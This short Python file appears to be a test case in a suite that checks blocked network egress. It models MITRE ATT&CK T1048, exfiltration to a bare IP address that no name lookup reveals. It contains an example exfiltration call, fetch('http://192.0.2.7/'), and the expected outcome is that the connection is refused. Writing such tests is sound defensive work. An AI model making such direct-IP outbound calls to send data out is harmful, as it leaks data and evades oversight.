"""A server sends what it found to an address, which no look-up of a name tells of.

Source: MITRE ATT&CK T1048, Exfiltration Over Alternative Protocol.
Seen: it is not connected, and the person reads the line that would allow it.
"""

from dataclasses import replace

from escaping import HELD, Escaping, fetch, refused


class Attack(Escaping):
    def escape(self):
        return fetch("http://192.0.2.7/")


SEEN = replace(HELD, told=(refused("192.0.2.7:80"),))
